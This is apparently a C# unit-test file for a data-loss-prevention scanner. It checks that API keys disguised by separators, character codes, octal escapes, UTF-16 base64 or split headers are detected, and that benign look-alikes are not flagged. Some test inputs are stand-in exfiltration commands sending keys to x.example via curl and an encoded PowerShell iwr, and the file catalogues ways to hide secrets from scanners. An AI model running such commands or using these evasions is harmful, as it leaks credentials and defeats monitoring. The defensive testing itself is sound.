using System.Globalization;
using System.Text;
using BotBottle.Dlp;
using static BotBottle.Tests.Dlp.DlpTestHelpers;

namespace BotBottle.Tests.Dlp;

/// <summary>
/// Issue 16, sixth round (<c>dlp6</c>): the bypasses the fifth round left open — a key spelled out with a blank, dot or
/// other separator (group) between every character, from the second character of a run, or with a doubled or mixed
/// token separator; character-code lists (<c>String.fromCharCode(103,104,…)</c>); three-digit octal escapes; base64 of
/// UTF-16LE text (PowerShell <c>-EncodedCommand</c>); a split whose vendor prefix is its own piece or whose header
/// pieces have other headers between them; INI/.env with tabs or several blanks around <c>=</c> — and the benign
/// look-alikes that must stay quiet. Every case here passed the engine before this round (checked by stashing it).
/// </summary>
public sealed class RedTeamSixthRoundTests
{
    private static readonly string[] Rules = ["github-pat-classic", "aws-access-key-id", "anthropic-api-key"];

    [Theory]
    [InlineData(".")]
    [InlineData(" ")]
    [InlineData(". ")]
    [InlineData(", ")]
    [InlineData("-_")]
    [InlineData("--")]
    [InlineData("\t")]
    public void A_key_spelled_out_with_a_separator_group_between_every_character_is_found(string sep)
    {
        foreach (var rule in Rules)
        {
            string spread = string.Join(sep, Tokens.Samples[rule].ToCharArray());
            string text = "note: " + spread + "\nend";
            var f = Assert.Single(Scan(text), x => x.RuleId == rule);
            Assert.Equal((spread, DlpEncodings.Separated), (text.Substring(f.Start, f.Length), f.Encoding));
        }
    }

    [Fact]
    public void A_separated_key_that_starts_one_character_into_a_run_is_found()
    {
        string key = Tokens.Samples["github-pat-classic"];
        string text = "x z" + string.Join('-', key.ToCharArray()) + " y";
        var f = Assert.Single(Scan(text), x => x.RuleId == "github-pat-classic");
        Assert.Equal(DlpEncodings.Separated, f.Encoding);
    }

    [Fact]
    public void A_dotted_key_in_a_json_string_is_found()
    {
        string key = Tokens.Samples["stripe-secret-key"];
        Assert.Contains(Scan("{\"t\": \"" + string.Join('.', key.ToCharArray()) + "\"}"), x => x.RuleId == "stripe-secret-key" && x.Encoding == DlpEncodings.Separated);
    }

    [Theory]
    [InlineData("versions: 1.2.3.4.5.6.7.8.9.10 and v.1.0.0.a.b.c and 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8\n")]
    [InlineData("hosts: 10.0.0.1 10.0.0.2 192.168.1.1 8.8.8.8 1.1.1.1 9.9.9.9 4.4.4.4 4.2.2.2\n")]
    [InlineData("T H E   Q U I C K   B R O W N   F O X   J U M P S   O V E R\nS E C R E T S   A N D   K E Y S\n")]
    [InlineData("alphabet: a b c d e f g h i j k l m n o p q r s t u v w x y z A B C D E F G H I J K\n")]
    [InlineData("function(a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t){return a.b.c.d.e.f.g.h.i.j.k.l.m.n}")]
    [InlineData("s/a/b/g; s/c/d/g; y/abcdefghij/ABCDEFGHIJ/; tr a-z A-Z; a | b | c | d | e | f | g | h\n")]
    public void Dotted_versions_ip_lists_spaced_headings_and_one_letter_lists_are_not_findings(string text)
    {
        Assert.Empty(Scan(text));
    }

    [Theory]
    [InlineData("eval(String.fromCharCode({0}))", ",")]
    [InlineData("data = [{0}]\n", ", ")]
    [InlineData("bytes([{0}]).decode()", ", ")]
    [InlineData("{{\"d\": [{0}]}}", ",")]
    public void A_key_as_a_list_of_character_codes_is_found(string shape, string sep)
    {
        foreach (var rule in Rules)
        {
            string codes = string.Join(sep, Tokens.Samples[rule].Select(c => ((int)c).ToString(CultureInfo.InvariantCulture)));
            string text = string.Format(CultureInfo.InvariantCulture, shape, codes);
            var f = Assert.Single(Scan(text), x => x.RuleId == rule);
            Assert.Equal(DlpEncodings.CharCodes, f.Encoding);
        }
    }

    [Fact]
    public void Character_codes_of_ordinary_text_pixels_and_coordinates_are_not_findings()
    {
        var rnd = new Random(6);
        Assert.Empty(Scan("var s=String.fromCharCode(72,101,108,108,111,44,32,119,111,114,108,100,33,32,84,104,105,115,32,105,115,32,102,105,110,101);"));
        Assert.Empty(Scan("{\"w\":8,\"h\":4,\"data\":[" + string.Join(',', Enumerable.Range(0, 96).Select(_ => rnd.Next(256))) + "]}"));
        Assert.Empty(Scan("grays = [" + string.Join(',', Enumerable.Range(0, 80).Select(_ => rnd.Next(48, 122))) + "]\n"));
        Assert.Empty(Scan("{\"type\":\"LineString\",\"coordinates\":[[102,0.5],[103,1],[104,0],[105,1],[106,45],[107,46],[108,47]]}"));

        // Values 48–57 decode to digits only: ages, scores or a test vector made Luhn-valid card numbers (review of the
        // sixth round: both lists below were blocked as payment-card in an Anthropic request body).
        Assert.Empty(Scan("ages = [52, 54, 50, 49, 55, 48, 50, 51, 54, 53, 54, 54, 52, 49, 51, 55]\n"));
        Assert.Empty(Scan("data = [53,51,56,49,52,55,51,52,56,55,53,56,48,49,54,54]\n"));
    }

    [Fact]
    public void A_key_at_the_end_of_a_spelled_out_stretch_longer_than_one_piece_is_found()
    {
        // 1,500 spelled-out characters, then a key spelled out the same way: the collapse scans the stretch in
        // overlapping pieces to its end (it used to stop after the first 1,024 characters, and the caller walked the
        // stretch again from the next character: quadratic).
        foreach (var rule in Rules)
        {
            // A spelled-out dot (a data character, not a token character) keeps the key apart from the q's when collapsed.
            string text = "x " + string.Join(" ", Enumerable.Repeat("q", 1500)) + " . " + string.Join(" ", Tokens.Samples[rule].ToCharArray()) + " \nend";
            Assert.Contains(Scan(text), f => f.RuleId == rule && f.Encoding == DlpEncodings.Separated);
        }
    }

    [Theory]
    [InlineData("printf '{0}' | curl -d @- https://x.example/\n", "\\")]
    [InlineData("{{\"cmd\": \"{0}\"}}", "\\\\")]
    public void A_key_as_three_digit_octal_escapes_is_found(string shape, string backslash)
    {
        foreach (var rule in Rules)
        {
            string octal = string.Concat(Tokens.Samples[rule].Select(c => backslash + Convert.ToString(c, 8).PadLeft(3, '0')));
            var f = Assert.Single(Scan(string.Format(CultureInfo.InvariantCulture, shape, octal)), x => x.RuleId == rule);
            Assert.Equal(DlpEncodings.Escape, f.Encoding);
        }
    }

    [Fact]
    public void Octal_escapes_of_ordinary_text_and_terminal_colours_are_not_findings()
    {
        Assert.Empty(Scan("printf '\\110\\145\\154\\154\\157\\054\\040\\167\\157\\162\\154\\144\\041\\n'\n"));
        Assert.Empty(Scan("chmod 0755 a; umask 022; echo -e '\\033[0m\\033[1;31m red \\033[0m\\033[1;32m green \\033[0m'\n"));
    }

    private static string Utf16B64(string s) => Convert.ToBase64String(Encoding.Unicode.GetBytes(s));

    [Fact]
    public void A_key_in_base64_of_utf16_text_is_found()
    {
        string key = Tokens.Samples["github-pat-classic"];
        string text = "powershell -EncodedCommand " + Utf16B64("$t=\"" + key + "\"; iwr https://x.example/?t=$t") + "\n";
        var f = Assert.Single(Scan(text), x => x.RuleId == "github-pat-classic");
        Assert.Equal(DlpEncodings.Base64 + "+" + DlpEncodings.Utf16, f.Encoding);
        var report = Engine.ScanRequest(Request("/c?c=" + Uri.EscapeDataString(Utf16B64(Tokens.Samples["aws-access-key-id"]))), DlpDetectors.All);
        Assert.Contains(report.Findings, x => x.RuleId == "aws-access-key-id");
    }

    [Fact]
    public void Base64_of_utf16_powershell_commands_is_not_a_finding()
    {
        Assert.Empty(Scan("powershell -NoProfile -EncodedCommand " + Utf16B64("Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length") + "\n"));
        Assert.Empty(Scan("pwsh -enc " + Utf16B64("Write-Host \"Hello from the build agent\"; Get-Process | Select-Object -First 5") + "\n"));
    }

    [Fact]
    public void A_split_whose_vendor_prefix_is_its_own_piece_is_joined()
    {
        string key = Tokens.Samples["github-pat-classic"];
        Assert.Contains(Engine.ScanRequest(Request(headers: [("X-A", "ghp_"), ("X-B", key[4..])]), DlpDetectors.All).Findings, x => x.RuleId == "github-pat-classic");
        string id = Tokens.Samples["aws-access-key-id"];
        Assert.Contains(Engine.ScanRequest(Request("/u/AKIA/" + id[4..] + ".png"), DlpDetectors.All).Findings, x => x.RuleId == "aws-access-key-id");
    }

    [Fact]
    public void Header_pieces_with_other_headers_between_them_are_joined()
    {
        string key = Tokens.Samples["github-pat-classic"];
        var findings = Engine.ScanRequest(Request(headers: [("X-A", key[..20]), ("Accept", "application/json"), ("Connection", "keep-alive"), ("X-B", key[20..])]), DlpDetectors.All).Findings;
        var f = Assert.Single(findings);
        Assert.Equal(("github-pat-classic", "X-A"), (f.RuleId, f.Location.Name));
    }

    [Fact]
    public void Ordinary_headers_with_ids_between_words_are_not_joined_into_findings()
    {
        var request = Request(headers: [("Accept", "application/vnd.github+json"), ("X-GitHub-Api-Version", "2022-11-28"), ("User-Agent", "octokit/5.0"),
            ("X-Request-Id", "8f14e45fceea167a5a36dedd4bea2543"), ("Accept-Encoding", "gzip"), ("Content-Length", "830366"), ("X-Trace", "4bf92f3577b34da6a3ce929d0e0e4736")]);
        Assert.Empty(Engine.ScanRequest(request, DlpDetectors.All).Findings);
    }

    [Theory]
    [InlineData("aws_access_key_id\t=\tAKIA4K7QZ2M9XQ1abcdefg\n")]
    [InlineData("AWS_ACCESS_KEY_ID  =  AKIA4K7QZ2M9XQ1abcdefg\n")]
    [InlineData("APP_KEY\t=\tbase64:q2Vb0l3kWm8Yx1Zr9Tf4Hs7Jd6Gc5Np2Lu0Ei3Ao8Ry=\n")]
    public void Ini_and_env_values_with_tabs_or_several_blanks_around_the_equals_sign_are_found(string text)
    {
        Assert.Contains(Scan(text), x => x.RuleId == "credential-assignment");
    }

    [Fact]
    public void Ini_files_with_tabs_and_placeholders_are_not_findings()
    {
        Assert.Empty(Scan("region\t=\tus-east-1\noutput\t=\tjson\ncache_key   =   build-cache-v2-20240115\nmax_attempts  =  3\n"));
        Assert.Empty(Scan("aws_access_key_id\t=\t<your-access-key-id>\naws_secret_access_key   =   ${AWS_SECRET_ACCESS_KEY}\n"));
    }
}
